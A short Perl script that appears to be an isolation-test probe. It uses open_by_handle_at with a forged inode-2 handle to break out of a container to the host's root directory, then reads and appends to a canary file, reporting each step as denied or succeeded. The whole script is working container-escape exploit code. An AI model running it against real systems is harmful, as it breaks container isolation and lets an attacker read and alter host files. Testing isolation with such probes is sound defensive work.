# open_by_handle_at(2) on a file bind-mounted from the host: with the
# handle of inode 2 (the root directory of ext4, xfs and friends), it opens
# the host's root; then the canary is read and appended to.
use strict;
use warnings;
my $canary = shift or die "usage: handle.pl CANARY_DIR\n";
(my $rel = "$canary/secret") =~ s{^/+}{};
open(my $mount, '<', '/etc/hosts') or die "/etc/hosts: $!\n";
# struct file_handle: handle_bytes 8, handle_type FILEID_INO32_GEN (1),
# inode 2, generation 0.
my $handle = pack('IiII', 8, 1, 2, 0);
my $O_DIRECTORY = 0x10000;
my $root = syscall(304, fileno($mount), $handle, $O_DIRECTORY);    # open_by_handle_at
if ($root < 0) {
    print "RESULT handle: denied ($!)\n";
    exit 0;
}
print "RESULT handle: OPENED the host's root directory\n";
my $fd = syscall(257, $root, $rel, 0);    # openat(root, rel, O_RDONLY)
if ($fd >= 0) {
    open(my $f, '<&=', $fd) or die;
    my $secret = <$f>;
    chomp $secret;
    print "RESULT handle-read: READ $secret\n";
}
else {
    print "RESULT handle-read: denied ($!)\n";
}
my $wfd = syscall(257, $root, $rel, 1 | 02000);    # O_WRONLY|O_APPEND
if ($wfd >= 0) {
    open(my $w, '>&=', $wfd) or die;
    print $w "pwned\n";
    close $w;
    print "RESULT handle-write: WROTE the canary\n";
}
else {
    print "RESULT handle-write: denied ($!)\n";
}
